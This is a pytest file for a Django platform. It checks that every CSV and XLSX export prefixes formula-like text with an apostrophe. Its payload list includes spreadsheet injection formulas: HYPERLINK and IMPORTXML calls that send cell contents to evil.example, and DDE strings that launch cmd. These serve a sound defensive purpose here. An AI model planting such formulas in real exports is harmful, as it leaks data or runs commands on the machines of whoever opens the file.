"""Formula injection sweep: every CSV and XLSX export of the platform writes text that starts
with = + - @ (or a tab or carriage return) with an apostrophe in front, so a spreadsheet shows it
as typed instead of running it.

The payloads go into the exported free-text fields of each export (the directory, the barometer's
raw answers, the charter's signatories, the accompaniments' portfolio); then every cell of the
downloaded files is read back.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from actors.enums import ActorKind, Role
from actors.models import Person, Structure
from barometer.enums import ResponseStatus
from barometer.models import Answer, Response
from cops.spreadsheets import FORMULA_PREFIXES, neutralise
from directory.indexing import index_persons, index_structures
from tests.factories.accompaniment import make_accompaniment
from tests.factories.actors import UserFactory
from tests.factories.barometer import CampaignFactory, make_invitation, make_questionnaire
from tests.factories.charter import CharterVersionFactory
from tests.factories.charter import PersonFactory as SignatoryPersonFactory
from tests.factories.charter import StructureFactory as SignatoryStructureFactory
from tests.factories.directory import make_person, make_structure

pytestmark = pytest.mark.django_db

# What a spreadsheet would run; each is followed by a unique mark to find its cell back.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1;"clic")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd",
    '+HYPERLINK("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example/?";A1);"//a")',
]
PAYLOADS = [f"{formula} zqxcsv{n:02d}" for n, formula in enumerate(FORMULAS)]


def csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode(
        "utf-8-sig"
    )
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def xlsx_cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(body))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_neutralised(cells: list[str], payloads: list[str]) -> None:
    """No cell starts like a formula, and every payload is there, apostrophe first (a field that
    drops surrounding blanks when saved keeps the payload without its leading tab)."""
    dangerous = [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)]
    assert dangerous == []
    texts = [cell for cell in cells if isinstance(cell, str)]
    for payload in payloads:
        expected = ("'" + payload, "'" + payload.strip())
        assert any(cell.startswith(expected) for cell in texts), payload


def assert_xlsx_neutralised(cells: list, payloads: list[str]) -> None:
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    # XML reads a carriage return back as a line feed.
    assert_neutralised([cell.value for cell in cells], [payload.replace("\r", "\n") for payload in payloads])


def test_the_shared_helper_neutralises_each_formula_and_keeps_numbers():
    assert [neutralise(payload) for payload in PAYLOADS] == ["'" + payload for payload in PAYLOADS]
    assert neutralise("Centre hospitalier") == "Centre hospitalier"
    assert neutralise(" =1+1") == " =1+1"  # not at the start: shown as text by spreadsheets
    assert neutralise(-3) == -3
    assert neutralise(2.5) == 2.5
    assert neutralise(None) is None


def test_directory_export_neutralises_formulas(staff_client):
    persons = [make_person(first_name=f"Prénom{n}", last_name=f"Nom{n}") for n in range(len(PAYLOADS))]
    structures = [make_structure(name=f"Structure {n}") for n in range(len(PAYLOADS))]
    for person, payload in zip(persons, PAYLOADS, strict=True):
        Person.objects.filter(pk=person.pk).update(last_name=payload, bio=payload, phone=payload[:30])
    for structure, payload in zip(structures, PAYLOADS, strict=True):
        Structure.objects.filter(pk=structure.pk).update(
            name=payload, description=payload, address=payload, phone=payload[:30]
        )
    index_persons([p.pk for p in persons])
    index_structures([s.pk for s in structures])

    csv_response = staff_client.get(reverse("directory:export", args=["csv"]))
    xlsx_response = staff_client.get(reverse("directory:export", args=["xlsx"]))

    assert csv_response.status_code == xlsx_response.status_code == 200
    assert_neutralised(csv_cells(csv_response), PAYLOADS)
    assert_xlsx_neutralised(xlsx_cells(xlsx_response), PAYLOADS)
    # The bio cell of the first person, exactly.
    assert "'" + PAYLOADS[0] in csv_cells(csv_response)


def test_barometer_raw_answers_neutralise_formulas(staff_client):
    campaign = CampaignFactory(anonymous=False)
    questionnaire = make_questionnaire(campaign)
    questions = {q.code: q for q in questionnaire.questions.all()}
    today = timezone.localdate()
    for n, payload in enumerate(PAYLOADS):
        invitation = make_invitation(questionnaire, email=f"repondant{n}@exemple.fr", name=payload)
        response = Response.objects.create(
            questionnaire=questionnaire,
            status=ResponseStatus.SUBMITTED,
            invitation=invitation,
            consented_on=today,
            started_on=today,
            submitted_on=today,
        )
        Answer.objects.create(response=response, question=questions["metier"], text=payload)
        Answer.objects.create(response=response, question=questions["commentaire"], text=payload + " long")
        Answer.objects.create(
            response=response, question=questions["profil"], choices=["_autre"], text=payload
        )

    csv_response = staff_client.get(f"/barometre/equipe/{campaign.year}/export.csv")
    xlsx_response = staff_client.get(f"/barometre/equipe/{campaign.year}/export.xlsx")

    assert csv_response.status_code == xlsx_response.status_code == 200
    cells = csv_cells(csv_response)
    assert_neutralised(cells, PAYLOADS + [payload + " long" for payload in PAYLOADS])
    assert_xlsx_neutralised(xlsx_cells(xlsx_response), PAYLOADS)


def test_charter_signatories_export_neutralises_formulas(staff_client):
    version = CharterVersionFactory(year=2045)
    for n, payload in enumerate(PAYLOADS):
        structure = SignatoryStructureFactory(name=payload)
        person = SignatoryPersonFactory(last_name=payload, first_name=f"Prénom{n}", user=None)
        for kind, signatory in ((ActorKind.STRUCTURE, structure), (ActorKind.PERSON, person)):
            version.signatures.create(
                kind=kind,
                person=signatory if kind == ActorKind.PERSON else None,
                structure=signatory if kind == ActorKind.STRUCTURE else None,
                signer_name=payload,
                signed_at=timezone.now() - timedelta(days=2),
                withdrawn_at=timezone.now() - timedelta(days=1),
                withdrawal_reason=payload,
            )

    csv_response = staff_client.get(reverse("charter:export", args=["csv"]), {"annee": version.year})
    xlsx_response = staff_client.get(reverse("charter:export", args=["xlsx"]), {"annee": version.year})

    assert csv_response.status_code == xlsx_response.status_code == 200
    assert_neutralised(csv_cells(csv_response), PAYLOADS)
    assert_xlsx_neutralised(xlsx_cells(xlsx_response), PAYLOADS)


def test_accompaniment_portfolio_export_neutralises_formulas(staff_client):
    for n, payload in enumerate(PAYLOADS):
        lead = UserFactory(first_name=payload, last_name=f"Nom{n}", roles=[Role.STAFF])
        make_accompaniment(
            structure=make_structure(name=f"Structure {n}"),
            title=payload,
            professional_lead=lead,
            patient_partner_lead=UserFactory(roles=[Role.STAFF]),
        )
    Structure.objects.filter(name__startswith="Structure ").update(name="@" + "Structure")

    csv_response = staff_client.get(reverse("accompaniment:export_csv"))
    xlsx_response = staff_client.get(reverse("accompaniment:export_xlsx"))

    assert csv_response.status_code == xlsx_response.status_code == 200
    cells = csv_cells(csv_response)
    assert_neutralised(cells, PAYLOADS + ["@Structure"])
    assert_xlsx_neutralised(xlsx_cells(xlsx_response), PAYLOADS + ["@Structure"])
